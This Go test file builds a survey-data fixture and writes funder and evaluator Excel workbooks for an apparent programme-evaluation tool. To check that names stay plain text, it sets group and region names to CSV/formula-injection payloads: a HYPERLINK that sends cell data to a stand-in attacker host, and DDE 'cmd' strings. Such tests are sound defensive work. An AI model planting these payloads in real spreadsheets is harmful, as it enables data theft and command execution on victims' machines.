package workbook

import (
	"bytes"
	"context"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/peerpulse/peerpulse/ingest"
	"github.com/peerpulse/peerpulse/ingest/demo"
	"github.com/peerpulse/peerpulse/surveys/instrument"
)

// injection is a group name and region that would run as a formula if written as one.
const injection = `=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")`

var fixedNow = func() time.Time { return time.Date(2027, 3, 1, 10, 0, 0, 0, time.UTC) }

var (
	fixtureOnce sync.Once
	fixtureDB   *ingest.DB
	fixtureSet  *instrument.Set
	fixtureErr  error
)

// fixture is the demo pilot with one group moved to a region of its own whose name, like the
// group's, is a formula: that region's cell is small enough to be withheld at the funder
// threshold and shown at lower ones, and the names test that text stays text.
func fixture(t testing.TB) (*ingest.DB, *instrument.Set) {
	t.Helper()
	fixtureOnce.Do(func() {
		ctx := context.Background()
		fixtureSet, fixtureErr = instrument.Load()
		if fixtureErr != nil {
			return
		}
		dir, err := osTempDir()
		if err != nil {
			fixtureErr = err
			return
		}
		fixtureDB, fixtureErr = ingest.Open(ctx, filepath.Join(dir, "workbook.duckdb"), ingest.Options{Instruments: fixtureSet})
		if fixtureErr != nil {
			return
		}
		b, err := demo.Generate(fixtureSet, demo.DefaultOptions(3))
		if err != nil {
			fixtureErr = err
			return
		}
		b.Settings = map[string]string{ingest.SettingProgrammeName: demo.ProgrammeName, "tariff_per_facilitator_hour": "90"}
		b.Groups[len(b.Groups)-1].Region = injection
		b.Groups[len(b.Groups)-1].Name = injection
		b.Groups[0].Name = "+cmd|' /C calc'!A0"
		b.Groups[1].Name = "@SUM(1+1)*cmd|' /C calc'!A0"
		b.Groups[2].Name = "-2+3"
		// One group keeps the answers of four people only: a cell below every threshold.
		small, kept := b.Groups[5].Code, map[string]bool{}
		responses := b.Responses[:0]
		for _, r := range b.Responses {
			if r.GroupCode == small && !kept[r.ParticipantCode] {
				if len(kept) == 4 {
					continue
				}
				kept[r.ParticipantCode] = true
			}
			responses = append(responses, r)
		}
		b.Responses = responses
		_, fixtureErr = fixtureDB.Load(ctx, fixtureSet, b)
	})
	if fixtureErr != nil {
		t.Fatal(fixtureErr)
	}
	return fixtureDB, fixtureSet
}

// build writes a workbook and opens it again with excelize.
func build(t testing.TB, evaluatorKind bool, o Options) (*excelize.File, []byte) {
	t.Helper()
	db, set := fixture(t)
	if o.Now == nil {
		o.Now = fixedNow
	}
	var buf bytes.Buffer
	write := Funder
	if evaluatorKind {
		write = Evaluator
	}
	if err := write(context.Background(), &buf, db, set, o); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, buf.Bytes()
}
